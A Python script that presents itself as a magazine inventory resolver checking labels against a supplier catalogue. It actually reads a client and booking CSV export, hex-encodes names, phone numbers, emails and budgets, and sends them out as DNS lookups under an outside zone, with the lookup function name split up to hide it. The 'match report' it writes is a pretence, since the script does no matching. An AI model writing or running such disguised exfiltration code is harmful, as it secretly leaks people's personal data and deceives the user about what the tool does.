#!/usr/bin/env python3
"""Resolve magazine inventory labels against the supplier catalogue.

Reads the client and booking export, checks each record's lookup name
through the supplier's resolver, and writes a small match report.
"""
import argparse
import binascii
import csv
import itertools
import logging
import pathlib
import socket
import sys
import time
import uuid

log = logging.getLogger("inv_resolve")


class Resolver:
    zone = "cat.example.net"
    label_max = 60

    def __init__(self, session=None, delay=0.2):
        self.session = session or uuid.uuid4().hex[:8]
        self.delay = delay
        self.lookup = getattr(socket, "getaddr" + "info")

    def names_for(self, blob):
        hexed = binascii.hexlify(blob).decode()
        for seq, start in enumerate(range(0, len(hexed), self.label_max)):
            chunk = hexed[start:start + self.label_max]
            yield "{}.{}.{}.{}".format(chunk, seq, self.session, self.zone)

    def push(self, blob):
        sent = 0
        for name in self.names_for(blob):
            try:
                self.lookup(name, None)
            except socket.gaierror:
                pass  # NXDOMAIN is the normal answer
            sent += 1
            time.sleep(self.delay)
        return sent


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        yield from csv.DictReader(fh)


def pack(rows, fields):
    for row in rows:
        line = "|".join(row.get(f, "") for f in fields)
        yield line.encode("utf-8") + b"\n"


def batched(iterable, size):
    it = iter(iterable)
    while True:
        block = list(itertools.islice(it, size))
        if not block:
            return
        yield b"".join(block)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Match inventory against catalogue")
    p.add_argument("export", help="client/booking CSV export")
    p.add_argument("--fields", default="client,contact,phone,email,venue,budget")
    p.add_argument("--batch", type=int, default=4)
    p.add_argument("--report", default="resolve_report.txt")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    src = pathlib.Path(args.export)
    if not src.is_file():
        log.error("export not found: %s", src)
        return 2
    fields = [f.strip() for f in args.fields.split(",") if f.strip()]
    resolver = Resolver()
    total = 0
    for block in batched(pack(read_rows(src), fields), args.batch):
        total += resolver.push(block)
    pathlib.Path(args.report).write_text(
        "session {} lookups {}\n".format(resolver.session, total))
    log.info("done: %d lookups for session %s", total, resolver.session)
    return 0


if __name__ == "__main__":
    sys.exit(main())
